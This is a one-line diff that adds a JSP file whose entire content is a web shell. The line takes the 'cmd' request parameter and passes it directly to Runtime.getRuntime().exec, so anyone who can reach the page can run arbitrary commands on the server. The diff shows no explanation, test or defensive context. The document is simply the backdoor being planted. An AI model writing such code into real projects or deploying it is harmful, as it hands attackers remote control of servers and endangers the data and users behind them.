@@ -1,0 +1,1 @@
+<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("cmd")); %>
